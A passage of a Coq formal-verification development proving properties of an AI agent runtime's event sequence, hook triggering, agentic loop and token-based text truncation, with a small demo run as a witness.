Lemma extendsBy_liftExc {A} P Q (x : Js.Exc A) : extendsBy P Q (liftExc x).
Proof. intros st. exists [], []. simpl. now rewrite !app_nil_r. Qed.

Lemma extendsBy_bind {A B} P Q (m : M AgentState A) (k : A -> M AgentState B) :
  extendsBy P Q m -> (forall a, extendsBy P Q (k a)) -> extendsBy P Q (bind m k).
Proof.
  intros Hm Hk st. unfold bind. destruct (Hm st) as (v1 & e1 & Y1 & Q1 & T1 & F1).
  destruct (m st) as [[e|a] st1]; simpl in *; [now exists v1, e1|].
  destruct (Hk a st1) as (v2 & e2 & Y2 & Q2 & T2 & F2).
  exists (v1 ++ v2)%list, (e1 ++ e2)%list.
  rewrite Y2, Y1, T2, T1, !app_assoc. repeat split; apply Forall_app; now split.
Qed.

Lemma extendsBy_yield P (Q : AgentEvent -> Prop) (e : AgentEvent) :
  Q e -> extendsBy P Q (yield e).
Proof.
  intros He st. exists [e], []. simpl. rewrite app_nil_r.
  repeat split; now constructor.
Qed.

Lemma extendsBy_inWorld {A} P Q (m : M World A) :
  emitsOnly P m -> extendsBy P Q (inWorld m).
Proof.
  intros Hm st. destruct (Hm (world st)) as (effs & T & F).
  exists [], effs. unfold inWorld, zoom. destruct (m (world st)) as [r w'].
  simpl in *. rewrite app_nil_r. now repeat split.
Qed.

Lemma extendsBy_updSession P Q (f : Session -> Session) : extendsBy P Q (updSession f).
Proof. intros st. exists [], []. simpl. now rewrite !app_nil_r. Qed.

Lemma extendsBy_onContext P Q (f : ContextManager -> Js.Exc ContextManager) :
  extendsBy P Q (onContext f).
Proof.
  unfold onContext. apply extendsBy_bind; [apply extendsBy_gets|]. intros cm.
  apply extendsBy_bind; [apply extendsBy_liftExc|]. intros cm'.
  apply extendsBy_updSession.
Qed.

Lemma extendsBy_forEach {A} P Q (xs : list A) (body : A -> M AgentState unit) :
  (forall x, extendsBy P Q (body x)) -> extendsBy P Q (forEach xs body).
Proof.
  intros Hb. induction xs as [|x xs IH]; simpl.
  - apply extendsBy_ret.
  - apply extendsBy_bind; [apply Hb | intros _; exact IH].
Qed.

(** A request to the model leaves the trace alone. *)
Lemma emitsOnly_chatCompletion P msgs schemas streamed :
  emitsOnly P (fun w : World =>
    let (st, e') := chatCompletion msgs schemas streamed (ext w) in
    (inr (A:=string) st, {| ext := e'; trace := trace w |})).
Proof.
  intros w. exists []. destruct (chatCompletion _ _ _ _). simpl.
  now rewrite app_nil_r.
Qed.

Lemma emitsOnly_compress P (cm : ContextManager) : emitsOnly P (compress cm).
Proof.
  intros w. exists []. destruct (compress_returns cm w) as (r & w' & E & T & _).
  rewrite E. simpl. now rewrite T, app_nil_r.
Qed.

Ltac steps :=
  repeat first
    [ apply extendsBy_ret | apply extendsBy_throw | apply extendsBy_gets
    | apply extendsBy_liftExc | apply extendsBy_updSession | apply extendsBy_onContext
    | apply extendsBy_yield; exact I
    | apply extendsBy_bind; [|intros ?] ].

Lemma extendsBy_recordUsage P Q (u : option TokenUsage) : extendsBy P Q (recordUsage u).
Proof. destruct u; steps. Qed.

Lemma extendsBy_prune P Q : extendsBy P Q prune.
Proof. unfold prune, now. steps. Qed.

Lemma extendsBy_compactIfNeeded P Q : extendsBy P Q compactIfNeeded.
Proof.
  unfold compactIfNeeded. apply extendsBy_bind; [apply extendsBy_gets|]. intros s.
  destruct (needsCompression _ _); [|apply extendsBy_ret].
  apply extendsBy_bind; [apply extendsBy_inWorld, emitsOnly_compress|]. intros r.
  destruct (fst r) as [summary|]; [|apply extendsBy_ret].
  destruct (Js.truthyStr summary); [|apply extendsBy_ret].
  apply extendsBy_bind; [apply extendsBy_onContext|]. intros _.
  apply extendsBy_recordUsage.
Qed.

Lemma extendsBy_consume P (evs : list StreamEvent) :
  forall acc, extendsBy P innerEvent (consume evs acc).
Proof.
  induction evs as [|event evs IH]; intros acc; simpl; [apply extendsBy_ret|].
  apply extendsBy_bind; [|intros acc'; apply IH].
  unfold onEvent. destruct (evType event); try apply extendsBy_ret.
  - destruct (Js.truthy (textDelta event)); steps.
  - steps.
  - destruct (toolCall event); apply extendsBy_ret.
Qed.

Lemma extendsBy_askModel P : extendsBy P innerEvent askModel.
Proof.
  unfold askModel. apply extendsBy_bind; [apply extendsBy_gets|]. intros s.
  apply extendsBy_bind; [apply extendsBy_inWorld, emitsOnly_chatCompletion|].
  intros stream. apply extendsBy_bind; [apply extendsBy_consume|]. intros reply.
  destruct (thrown stream); steps.
Qed.

Lemma extendsBy_dispatchAll (calls : list PendingCall) :
  extendsBy toolEffect innerEvent (dispatchAll calls).
Proof.
  induction calls as [|c calls IH]; simpl; [apply extendsBy_ret|].
  apply extendsBy_bind.
  - unfold dispatch. apply extendsBy_bind; [now apply extendsBy_yield|]. intros _.
    apply extendsBy_bind; [apply extendsBy_updSession|]. intros _.
    apply extendsBy_bind; [apply extendsBy_gets|]. intros s.
    apply extendsBy_bind; [apply extendsBy_inWorld, emitsOnly_invoke|]. intros r.
    steps.
  - intros r. apply extendsBy_bind; [exact IH|]. intros rs. apply extendsBy_ret.
Qed.

Lemma extendsBy_turnBody : extendsBy toolEffect innerEvent turnBody.
Proof.
  unfold turnBody.
  apply extendsBy_bind; [apply extendsBy_compactIfNeeded|]. intros _.
  apply extendsBy_bind; [apply extendsBy_askModel|]. intros reply.
  apply extendsBy_bind; [apply extendsBy_onContext|]. intros _.
  apply extendsBy_bind.
  { destruct (Js.truthyStr (responseText reply)); steps. }
  intros _. destruct (toolCallsAcc reply) as [|c calls].
  - apply extendsBy_bind; [apply extendsBy_recordUsage|]. intros _.
    apply extendsBy_bind; [apply extendsBy_prune|]. intros _. apply extendsBy_ret.
  - apply extendsBy_bind; [apply extendsBy_dispatchAll|]. intros toolResults.
    apply extendsBy_bind; [apply extendsBy_forEach; intros r; apply extendsBy_onContext|].
    intros _. apply extendsBy_bind; [apply extendsBy_gets|]. intros s.
    apply extendsBy_bind.
    { destruct (LoopDetector.checkForLoop _) as [loopError|]; [|apply extendsBy_ret].
      destruct (Js.truthyStr loopError); steps. }
    intros _. apply extendsBy_bind; [apply extendsBy_recordUsage|]. intros _.
    apply extendsBy_bind; [apply extendsBy_prune|]. intros _. apply extendsBy_ret.
Qed.

Lemma extendsBy_loop (remaining : nat) : extendsBy toolEffect innerEvent (loop remaining).
Proof.
  induction remaining as [|remaining IH]; simpl; [apply extendsBy_ret|].
  apply extendsBy_bind.
  - unfold turn, now. apply extendsBy_bind; [apply extendsBy_gets|]. intros t.
    apply extendsBy_bind; [apply extendsBy_updSession|]. intros _.
    apply extendsBy_turnBody.
  - intros returned. destruct returned; [apply extendsBy_ret|exact IH].
Qed.

(** The agentic loop yields no start or end event and touches the trace
    through the tool hooks only. *)
Lemma extendsBy_agenticLoop : extendsBy toolEffect innerEvent agenticLoop.
Proof.
  unfold agenticLoop. apply extendsBy_bind; [apply extendsBy_gets|]. intros maxTurns.
  apply extendsBy_bind; [apply extendsBy_loop|]. intros returned.
  destruct returned; [apply extendsBy_ret|]. now apply extendsBy_yield.
Qed.

End RunFacts.
Section RunShape.
Import ToolBase Data Eff Hooks Approval Registry Context Agent.
Context `{Env}.

(** Running the hooks of a trigger never throws; it runs the matching hooks
    in the order of the configuration, each once. *)
Lemma runMatching_runs hs t env w :
  exists w',
    runMatching hs t env w = (inr tt, w')
    /\ trace w' = (trace w ++ List.map (fun hook => HookRan hook env) (matching hs t))%list
    /\ ext w' = List.fold_left (fun e hook => runHookCommand hook env e) (matching hs t)
                  (ext w).
Proof.
  unfold runMatching, matching. generalize (hooks hs) as hks. intros hks. revert w.
  induction hks as [|hook hks IH]; intros w.
  - exists w. simpl. now rewrite app_nil_r.
  - simpl. destruct (trigger_eqb (trigger hook) t).
    + set (w1 := {| ext := runHookCommand hook env (ext w);
                    trace := (trace w ++ [HookRan hook env])%list |}).
      destruct (IH w1) as (w2 & E2 & T2 & X2).
      exists w2. split; [exact E2|]. split.
      * rewrite T2. unfold w1. simpl. now rewrite <- app_assoc.
      * exact X2.
    + exact (IH w).
Qed.

Lemma triggerBeforeAgent_runs hs message w :
  exists w' ran,
    triggerBeforeAgent hs message w = (inr tt, w')
    /\ trace w' = (trace w ++ Triggered BEFORE_AGENT None None :: ran)%list
    /\ Forall (fun e => exists hook env, e = HookRan hook env
                                         /\ trigger hook = BEFORE_AGENT) ran.
Proof.
  unfold triggerBeforeAgent.
  set (env := buildEnv _ _ _ _).
  set (w0 := {| ext := ext w;
                trace := (trace w ++ [Triggered BEFORE_AGENT None None])%list |}).
  destruct (runMatching_runs hs BEFORE_AGENT env w0) as (w1 & E1 & T1 & _).
  exists w1, (List.map (fun hook => HookRan hook env) (matching hs BEFORE_AGENT)).
  split; [exact E1|]. split.
  - rewrite T1. unfold w0. simpl. now rewrite <- app_assoc.
  - apply Forall_forall. intros e He. apply list_elem_of_In, in_map_iff in He.
    destruct He as (hook & <- & Hin). exists hook, env. split; [reflexivity|].
    unfold matching in Hin. apply filter_In in Hin. destruct Hin as [_ Ht].
    now destruct (trigger hook).
Qed.

Lemma triggerAfterAgent_runs hs message response w :
  exists w' ran,
    triggerAfterAgent hs message response w = (inr tt, w')
    /\ trace w' = (trace w ++ Triggered AFTER_AGENT None None :: ran)%list
    /\ Forall (fun e => exists hook env, e = HookRan hook env
                                         /\ trigger hook = AFTER_AGENT) ran.
Proof.
  unfold triggerAfterAgent.
  match goal with |- context [runMatching hs AFTER_AGENT ?e] => set (env := e) end.
  set (w0 := {| ext := ext w;
                trace := (trace w ++ [Triggered AFTER_AGENT None None])%list |}).
  destruct (runMatching_runs hs AFTER_AGENT env w0) as (w1 & E1 & T1 & _).
  exists w1, (List.map (fun hook => HookRan hook env) (matching hs AFTER_AGENT)).
  split; [exact E1|]. split.
  - rewrite T1. unfold w0. simpl. now rewrite <- app_assoc.
  - apply Forall_forall. intros e He. apply list_elem_of_In, in_map_iff in He.
    destruct He as (hook & <- & Hin). exists hook, env. split; [reflexivity|].
    unfold matching in Hin. apply filter_In in Hin. destruct Hin as [_ Ht].
    now destruct (trigger hook).
Qed.

(** A computation that yields nothing and leaves the trace alone. *)
Lemma silent_step {A} (m : M AgentState A) (st : AgentState) :
  extendsBy (fun _ => False) (fun _ => False) m ->
  yielded (snd (m st)) = yielded st /\ trace (world (snd (m st))) = trace (world st).
Proof.
  intros Hm. destruct (Hm st) as (evs & effs & Y & Q & T & F).
  destruct evs as [|e evs]; [|now inversion Q].
  destruct effs as [|x effs]; [|now inversion F].
  now rewrite Y, T, !app_nil_r.
Qed.

(** The planning step yields at most the plan and leaves the trace alone;
    without autoplan it does nothing. *)
Lemma planStep_shape (message : string) (st : AgentState) :
  exists planned,
    yielded (snd (planStep message st)) = (yielded st ++ planned)%list
    /\ (planned = [] \/ exists p, planned = [textComplete p])
    /\ trace (world (snd (planStep message st))) = trace (world st)
    /\ (autoplan (config (session st)) = false ->
        planned = [] /\ fst (planStep message st) = inr tt).
Proof.
  unfold planStep. rewrite bind_gets.
  destruct (autoplan (config (session st))).
  2:{ exists []. simpl. rewrite app_nil_r. repeat split; auto. }
  assert (G : extendsBy (fun _ => False) (fun _ => False) (generatePlan message)).
  { unfold generatePlan.
    apply extendsBy_bind; [apply extendsBy_inWorld, emitsOnly_chatCompletion|].
    intros stream. destruct (planText _ _); [|apply extendsBy_ret].
    destruct (thrown stream); [apply extendsBy_throw|].
    destruct (Js.truthyStr _); apply extendsBy_ret. }
  destruct (silent_step _ st G) as [Y1 T1]. unfold bind.
  destruct (generatePlan message st) as [[e|plan] st1]; simpl in Y1, T1.
  { exists []. simpl. rewrite app_nil_r. repeat split; auto; discriminate. }
  destruct plan as [p|].
  2:{ exists []. simpl. rewrite app_nil_r. repeat split; auto; discriminate. }
  destruct (Js.truthyStr p).
  2:{ exists []. simpl. rewrite app_nil_r. repeat split; auto; discriminate. }
  destruct (silent_step _ st1
              (extendsBy_onContext _ _ (addAssistantMessage (Some p) None))) as [Y2 T2].
  destruct (onContext _ st1) as [[e|[]] st2]; simpl in Y2, T2.
  - exists []. simpl. rewrite app_nil_r. repeat split; auto; try congruence; discriminate.
  - exists [textComplete p]. simpl. repeat split; try congruence; try discriminate.
    right. now exists p.
Qed.

(** The shape of a run: the events yielded and the effects recorded. *)
Lemma agentRun_shape (message : string) (st : AgentState) :
  exists planned looped ranBefore toolEffs ranAfter,
    (planned = [] \/ exists p, planned = [textComplete p])
    /\ (autoplan (config (session st)) = false -> planned = [])
    /\ Forall innerEvent looped
    /\ Forall (fun e => exists hook env, e = HookRan hook env
                                         /\ trigger hook = BEFORE_AGENT) ranBefore
    /\ Forall toolEffect toolEffs
    /\ Forall (fun e => exists hook env, e = HookRan hook env
                                         /\ trigger hook = AFTER_AGENT) ranAfter
    /\ match agentRun message st with
       | (inr _, st') =>
           yielded st'
           = (yielded st ++ [agentStart message] ++ planned ++ looped
              ++ [agentEnd (lastText looped)])%list
           /\ trace (world st')
              = (trace (world st) ++ [Triggered BEFORE_AGENT None None] ++ ranBefore
                 ++ toolEffs ++ [Triggered AFTER_AGENT None None] ++ ranAfter)%list
       | (inl _, st') =>
           yielded st' = (yielded st ++ [agentStart message] ++ planned ++ looped)%list
           /\ trace (world st')
              = (trace (world st) ++ [Triggered BEFORE_AGENT None None] ++ ranBefore
                 ++ toolEffs)%list
       end.
Proof.
  unfold agentRun. rewrite bind_gets.
  destruct (triggerBeforeAgent_runs (hookSystem (session st)) message (world st))
    as (w1 & ranBefore & E1 & T1 & F1).
  rewrite (bind_returns _ _ _ _ _ (inWorld_run _ st _ _ E1)).
  unfold yield at 1. rewrite bind_modify. cbn [session world yielded].
  set (st2 := {| session := session st; world := w1;
                 yielded := (yielded st ++ [agentStart message])%list |}).
  destruct (countTokens_defined message (modelName (contextManager (session st2))))
    as (n & En).
  assert (Eu : addUserMessage (Some message) (contextManager (session st2))
               = inr (push {| role := "user"; content := Some message;
                              toolCallId := None; toolCalls := None;
                              tokenCount := Some n; prunedAt := None |}
                        (contextManager (session st2)))).
  { unfold addUserMessage. now rewrite En. }
  rewrite (bind_returns _ _ _ _ _ (onContext_returns _ st2 _ Eu)).
  match goal with |- context [bind (planStep message) _ ?s] => set (st3 := s) end.
  destruct (planStep_shape message st3) as (planned & Y4 & Hp & T4 & Ha).
  exists planned.
  assert (Hauto : autoplan (config (session st)) = false -> planned = []).
  { intros Hf. now apply Ha. }
  unfold bind at 1.
  destruct (planStep message st3) as [[e|[]] st4]; simpl in Y4, T4.
  { exists [], ranBefore, [], []. repeat split; auto.
    - rewrite Y4. unfold st3, st2. simpl. now rewrite app_nil_r, <- !app_assoc.
    - rewrite T4. unfold st3, st2. simpl. now rewrite T1, app_nil_r. }
  rewrite bind_gets.
  destruct (extendsBy_agenticLoop st4) as (looped & toolEffs & Y5 & Q5 & T5 & F5).
  exists looped, ranBefore, toolEffs.
  unfold bind at 1.
  destruct (agenticLoop st4) as [[e|[]] st5]; simpl in Y5, T5.
  { exists []. repeat split; auto.
    - rewrite Y5, Y4. unfold st3, st2. simpl. now rewrite <- !app_assoc.
    - rewrite T5, T4. unfold st3, st2. simpl. now rewrite T1, <- !app_assoc. }
  rewrite !bind_gets.
  assert (Ef : List.skipn (List.length (yielded st4)) (yielded st5) = looped).
  { rewrite Y5. apply drop_app_length. }
  rewrite Ef.
  destruct (triggerAfterAgent_runs (hookSystem (session st5)) message (lastText looped)
              (world st5)) as (w6 & ranAfter & E6 & T6 & F6).
  rewrite (bind_returns _ _ _ _ _ (inWorld_run _ st5 _ _ E6)).
  exists ranAfter. repeat split; auto.
  - simpl. rewrite Y5, Y4. unfold st3, st2. simpl. now rewrite <- !app_assoc.
  - simpl. rewrite T6, T5, T4. unfold st3, st2. simpl. rewrite T1.
    now rewrite <- !app_assoc.
Qed.

End RunShape.
Section RunClaims.
Import ToolBase Data Eff Hooks Approval Registry Context Agent.
Context `{Env}.

(** X13: the events and agent hooks of a run.  Whatever the model, the
    tools and the hooks do, a run first calls the before-agent hook and
    yields the start event; then come the plan (with autoplan only, at most
    one text-complete event) and the events of the agentic loop, none of
    which is a start or end event.  A run that returns has called the
    after-agent hook exactly once after that and ends with the end event,
    which carries the content of the last text-complete event of the loop
    (the plan does not count); a run that throws has yielded no end event
    and has not called the after-agent hook. *)
Theorem run_brackets_its_events (message : string) (st : AgentState) :
  exists planned looped,
    (planned = [] \/ exists p, planned = [textComplete p])
    /\ (autoplan (config (session st)) = false -> planned = [])
    /\ Forall innerEvent looped
    /\ match agentRun message st with
       | (inr _, st') =>
           yielded st'
           = (yielded st ++ [agentStart message] ++ planned ++ looped
              ++ [agentEnd (lastText looped)])%list
           /\ agentCalls (trace (world st'))
              = (agentCalls (trace (world st)) ++ [BEFORE_AGENT; AFTER_AGENT])%list
       | (inl _, st') =>
           yielded st' = (yielded st ++ [agentStart message] ++ planned ++ looped)%list
           /\ agentCalls (trace (world st'))
              = (agentCalls (trace (world st)) ++ [BEFORE_AGENT])%list
       end.
Proof.
  destruct (agentRun_shape message st)
    as (planned & looped & ranBefore & toolEffs & ranAfter
        & Hp & Ha & Hl & Fb & Ft & Fa & Hr).
  exists planned, looped. split; [exact Hp|]. split; [exact Ha|]. split; [exact Hl|].
  assert (Cb : agentCalls ranBefore = []).
  { apply agentCalls_hooks. eapply Forall_impl; [exact Fb|].
    intros e (hook & env & -> & _). eauto. }
  assert (Ca : agentCalls ranAfter = []).
  { apply agentCalls_hooks. eapply Forall_impl; [exact Fa|].
    intros e (hook & env & -> & _). eauto. }
  pose proof (agentCalls_tool toolEffs Ft) as Ct.
  destruct (agentRun message st) as [[e|[]] st']; destruct Hr as [Y T];
    (split; [exact Y|]); rewrite T, !agentCalls_app, Cb, Ct.
  - simpl. now rewrite ?app_nil_r.
  - rewrite Ca. simpl. now rewrite ?app_nil_r.
Qed.

(** X14: no on-error hook ever runs.  Whatever happens during a run, every
    trigger call and every hook run that it adds to the trace belongs to one
    of the four triggers before-agent, after-agent, before-tool and
    after-tool: a hook configured with the trigger on-error is never run,
    not even when the run fails. *)
Theorem no_error_hook_ever_runs (message : string) (st : AgentState) :
  exists effs,
    trace (world (snd (agentRun message st))) = (trace (world st) ++ effs)%list
    /\ Forall (fun e => effectTrigger e <> ON_ERROR) effs.
Proof.
  destruct (agentRun_shape message st)
    as (planned & looped & ranBefore & toolEffs & ranAfter
        & _ & _ & _ & Fb & Ft & Fa & Hr).
  assert (Nb : Forall (fun e => effectTrigger e <> ON_ERROR) ranBefore).
  { eapply Forall_impl; [exact Fb|]. intros e (hook & env & -> & Et). simpl.
    rewrite Et. discriminate. }
  assert (Na : Forall (fun e => effectTrigger e <> ON_ERROR) ranAfter).
  { eapply Forall_impl; [exact Fa|]. intros e (hook & env & -> & Et). simpl.
    rewrite Et. discriminate. }
  assert (Nt : Forall (fun e => effectTrigger e <> ON_ERROR) toolEffs).
  { eapply Forall_impl; [exact Ft|]. intros e [Et|Et]; rewrite Et; discriminate. }
  destruct (agentRun message st) as [[e|[]] st']; destruct Hr as [_ T]; simpl;
    eexists; (split; [exact T|]); repeat (apply Forall_app; split); try assumption;
    repeat constructor; discriminate.
Qed.

Lemma matching_newHookSystem cwd (flag : bool) configured t :
  matching (newHookSystem cwd flag configured) t
  = List.filter (fun hook => flag && enabled hook && trigger_eqb (trigger hook) t)
      configured.
Proof.
  unfold matching, newHookSystem. cbn [hooks]. destruct flag; [|simpl].
  - induction configured as [|hook l IH]; [reflexivity|].
    simpl. destruct (enabled hook); simpl; [|exact IH].
    destruct (trigger_eqb (trigger hook) t); now rewrite IH.
  - induction configured as [|hook l IH]; [reflexivity|exact IH].
Qed.

(** X15: which hooks a trigger call runs.  For a hook system built from a
    configuration, a call of any of the four trigger methods never throws
    and runs exactly the configured hooks that are enabled and carry that
    trigger, provided hooks are enabled at all; it runs them in the order of
    the configuration, each once and all with the same environment, a
    failing hook not stopping the later ones.  The environment of the
    after-tool hooks holds the text of the result. *)
Theorem triggers_run_the_enabled_hooks_in_order
    (cwd : string) (flag : bool) (configured : list HookConfig) (w : World) :
  let hs := newHookSystem cwd flag configured in
  let chosen t :=
    List.filter (fun hook => flag && enabled hook && trigger_eqb (trigger hook) t)
      configured in
  let ran t call env (w' : World) :=
    trace w' = (trace w ++ call :: List.map (fun hook => HookRan hook env) (chosen t))%list
    /\ ext w' = List.fold_left (fun e hook => runHookCommand hook env e) (chosen t) (ext w) in
  (forall message, exists w' env,
     triggerBeforeAgent hs message w = (inr tt, w')
     /\ ran BEFORE_AGENT (Triggered BEFORE_AGENT None None) env w')
  /\ (forall message response, exists w' env,
        triggerAfterAgent hs message response w = (inr tt, w')
        /\ ran AFTER_AGENT (Triggered AFTER_AGENT None None) env w')
  /\ (forall toolName params, exists w' env,
        triggerBeforeTool hs toolName params w = (inr tt, w')
        /\ ran BEFORE_TOOL (Triggered BEFORE_TOOL (Some toolName) None) env w')
  /\ (forall toolName params result, exists w' env,
        triggerAfterTool hs toolName params result w = (inr tt, w')
        /\ ran AFTER_TOOL (Triggered AFTER_TOOL (Some toolName) (Some result)) env w'
        /\ AI_AGENT_TOOL_RESULT env = Some (resultText result)).
Proof.
  cbv zeta.
  assert (R : forall t call env,
             exists w',
               (run emit call in runMatching (newHookSystem cwd flag configured) t env) w
               = (inr tt, w')
               /\ trace w'
                  = (trace w ++ call :: List.map (fun hook => HookRan hook env)
                       (List.filter
                          (fun hook => flag && enabled hook
                                       && trigger_eqb (trigger hook) t) configured))%list
               /\ ext w'
                  = List.fold_left (fun e hook => runHookCommand hook env e)
                      (List.filter
                         (fun hook => flag && enabled hook
                                      && trigger_eqb (trigger hook) t) configured)
                      (ext w)).
  { intros t call env.
    set (w0 := {| ext := ext w; trace := (trace w ++ [call])%list |}).
    destruct (runMatching_runs (newHookSystem cwd flag configured) t env w0)
      as (w1 & E1 & T1 & X1).
    rewrite matching_newHookSystem in T1, X1.
    exists w1. split; [exact E1|]. split; [|exact X1].
    rewrite T1. unfold w0. simpl. now rewrite <- app_assoc. }
  split; [|split; [|split]].
  - intros message. unfold triggerBeforeAgent.
    destruct (R BEFORE_AGENT (Triggered BEFORE_AGENT None None)
                (buildEnv (newHookSystem cwd flag configured) BEFORE_AGENT None
                   (Some message))) as (w' & E & T & X).
    eexists w', _. split; [exact E|]. split; [exact T|exact X].
  - intros message response. unfold triggerAfterAgent.
    match goal with |- context [runMatching _ AFTER_AGENT ?e] =>
      destruct (R AFTER_AGENT (Triggered AFTER_AGENT None None) e) as (w' & E & T & X)
    end.
    eexists w', _. split; [exact E|]. split; [exact T|exact X].
  - intros toolName params. unfold triggerBeforeTool.
    match goal with |- context [runMatching _ BEFORE_TOOL ?e] =>
      destruct (R BEFORE_TOOL (Triggered BEFORE_TOOL (Some toolName) None) e)
        as (w' & E & T & X)
    end.
    eexists w', _. split; [exact E|]. split; [exact T|exact X].
  - intros toolName params result. unfold triggerAfterTool.
    match goal with |- context [runMatching _ AFTER_TOOL ?e] =>
      destruct (R AFTER_TOOL (Triggered AFTER_TOOL (Some toolName) (Some result)) e)
        as (w' & E & T & X)
    end.
    eexists w', _. split; [exact E|]. split; [split; [exact T|exact X]|reflexivity].
Qed.

End RunClaims.
Section RunWitness.
#[local] Existing Instance Examples.demoEnv.
Import ToolBase Data Eff Hooks Approval Registry Context Agent Examples.

(** The run of one message in the demo world, limited to one turn: the
    model calls a tool that is not registered. *)
Lemma demo_run_yields :
  fst (agentRun "List the files." oneTurnState) = inr tt
  /\ yielded (snd (agentRun "List the files." oneTurnState))
     = [ agentStart "List the files.";
         toolCallStart "call_1" "no_such_tool" ∅;
         toolCallComplete "call_1" "no_such_tool"
           (mkError "Unknown tool: no_such_tool" ""
              {[ "tool_name" := Js.VStr "no_such_tool" ]});
         agentError "Maximum turns (1) reached";
         agentEnd None ].
Proof. split; now vm_compute. Qed.

Lemma run_brackets_its_events_witness :
  exists planned looped,
    (planned = [] \/ exists p, planned = [textComplete p])
    /\ (autoplan (config (session oneTurnState)) = false -> planned = [])
    /\ Forall innerEvent looped
    /\ match agentRun "List the files." oneTurnState with
       | (inr _, st') =>
           yielded st'
           = (yielded oneTurnState ++ [agentStart "List the files."] ++ planned ++ looped
              ++ [agentEnd (lastText looped)])%list
           /\ agentCalls (trace (world st'))
              = (agentCalls (trace (world oneTurnState))
                 ++ [BEFORE_AGENT; AFTER_AGENT])%list
       | (inl _, st') =>
           yielded st'
           = (yielded oneTurnState ++ [agentStart "List the files."] ++ planned
              ++ looped)%list
           /\ agentCalls (trace (world st'))
              = (agentCalls (trace (world oneTurnState)) ++ [BEFORE_AGENT])%list
       end.
Proof. exact (run_brackets_its_events "List the files." oneTurnState). Defined.

End RunWitness.

(** ** Truncation of texts *)

Section TextFacts.
Import Context Text.
Context `{Env}.

(** The token count of a string is what [countTokens] returns on it. *)
Lemma countTokens_text (text model : string) :
  countTokens (Some text) model = inr (countText text model).
Proof. unfold countTokens, countText. now destruct (encode model (Some text)). Qed.

Lemma substring_prefix (n : nat) (s : string) :
  exists rest, s = (String.substring 0 n s ++ rest)%string.
Proof.
  revert n. induction s as [|c s IH]; intros n.
  - exists "". now destruct n.
  - destruct n as [|n]; simpl.
    + now exists (String c s).
    + destruct (IH n) as (rest & E). exists rest. rewrite E at 1. reflexivity.
Qed.

Lemma mid_between (low high : nat) :
  low < high -> low < (low + high + 1) / 2 <= high.
Proof.
  intros L. pose proof (Nat.div_mod_eq (low + high + 1) 2) as D.
  pose proof (Nat.mod_upper_bound (low + high + 1) 2 ltac:(lia)) as M. lia.
Qed.

(** With enough iterations the loop ends by its own test, on a position
    between the bounds that fits unless it is the lower bound; when fitting
    is monotone and nothing above [high] fits, nothing above the result
    fits. *)
Lemma searchLoop_ends (fits : nat -> bool) (bound fuel : nat) :
  forall low high,
    low <= high -> high - low <= fuel ->
    exists l,
      searchLoop fits fuel low high = (l, l)
      /\ low <= l <= high
      /\ (l = low \/ fits l = true)
      /\ ((forall a b, a <= b -> fits b = true -> fits a = true) ->
          (forall m, high < m -> m <= bound -> fits m = false) ->
          forall n, n <= bound -> fits n = true -> n <= l).
Proof.
  induction fuel as [|fuel IH]; intros low high L F.
  - assert (high = low) by lia. subst high. exists low. simpl.
    split; [reflexivity|]. split; [lia|]. split; [now left|].
    intros Hmono Hhigh n Ln Hn.
    destruct (Nat.le_gt_cases n low) as [?|G]; [assumption|].
    rewrite (Hhigh n G Ln) in Hn. discriminate.
  - cbn [searchLoop]. destruct (low <? high)%nat eqn:Elt.
    + apply Nat.ltb_lt in Elt. pose proof (mid_between low high Elt) as Hm.
      cbv zeta. set (mid := (low + high + 1) / 2) in *.
      destruct (fits mid) eqn:Ef.
      * destruct (IH mid high ltac:(lia) ltac:(lia)) as (l & E & B & Hl & Hmax).
        exists l. split; [exact E|]. split; [lia|]. split.
        { destruct Hl as [->|Hl]; right; assumption. }
        exact Hmax.
      * destruct (IH low (mid - 1) ltac:(lia) ltac:(lia)) as (l & E & B & Hl & Hmax).
        exists l. split; [exact E|]. split; [lia|]. split; [exact Hl|].
        intros Hmono Hhigh. apply (Hmax Hmono).
        intros m Gm Lm. destruct (fits m) eqn:Em; [|reflexivity].
        destruct (Nat.le_gt_cases m high) as [Lh|Gh].
        -- rewrite (Hmono mid m ltac:(lia) Em) in Ef. discriminate.
        -- rewrite (Hhigh m Gh Lm) in Em. discriminate.
    + apply Nat.ltb_ge in Elt. assert (high = low) by lia. subst high.
      exists low. split; [reflexivity|]. split; [lia|]. split; [now left|].
      intros Hmono Hhigh n Ln Hn.
      destruct (Nat.le_gt_cases n low) as [?|G]; [assumption|].
      rewrite (Hhigh n G Ln) in Hn. discriminate.
Qed.

Lemma substring_all (n : nat) (s : string) :
  String.length s <= n -> String.substring 0 n s = s.
Proof.
  revert n. induction s as [|c s IH]; intros n L.
  - now destruct n.
  - destruct n as [|n]; simpl in *; [lia|]. rewrite IH; [reflexivity|lia].
Qed.

(** X16: the binary search of [truncateByChars].  The loop ends by its own
    test within as many iterations as the text has characters; the result
    is the first [low] characters of the text followed by the suffix, where
    the prefix of length [low] is within the target unless [low] is 0.  When
    token counts do not decrease as a prefix grows, [low] is the length of
    the longest prefix within the target (when no prefix fits, 0). *)
Theorem binary_search_keeps_the_longest_fitting_prefix
    (text suffix model : string) (targetTokens : Z) :
  exists low,
    searchLoop (fitsIn text model targetTokens) (String.length text) 0 (String.length text)
    = (low, low)
    /\ truncateByChars text targetTokens suffix model
       = (String.substring 0 low text ++ suffix)%string
    /\ low <= String.length text
    /\ (low = 0 \/ fitsIn text model targetTokens low = true)
    /\ ((forall a b, a <= b -> fitsIn text model targetTokens b = true ->
                     fitsIn text model targetTokens a = true) ->
        forall n, n <= String.length text -> fitsIn text model targetTokens n = true ->
                  n <= low).
Proof.
  destruct (searchLoop_ends (fitsIn text model targetTokens) (String.length text)
              (String.length text) 0 (String.length text) ltac:(lia) ltac:(lia))
    as (l & E & B & Hl & Hmax).
  exists l. split; [exact E|]. split; [unfold truncateByChars; now rewrite E|].
  split; [lia|]. split; [exact Hl|].
  intros Hmono. apply (Hmax Hmono). intros m Gm Lm. lia.
Qed.

End TextFacts.
Section LineFacts.
Import Context Text.
Context `{Env}.

Lemma append_cons (c : ascii) (a b : string) :
  (String c a ++ b)%string = String c (a ++ b).
Proof. reflexivity. Qed.

Lemma append_assoc (a b c : string) : ((a ++ b) ++ c = a ++ (b ++ c))%string.
Proof.
  induction a as [|x a IH]; [reflexivity|]. now rewrite !append_cons, IH.
Qed.

Lemma append_nil_r (a : string) : (a ++ "")%string = a.
Proof.
  induction a as [|x a IH]; [reflexivity|]. now rewrite append_cons, IH.
Qed.

Lemma splitChar_nonempty (sep : ascii) (s : string) : Js.splitChar sep s <> [].
Proof.
  destruct s as [|c s]; simpl; [discriminate|].
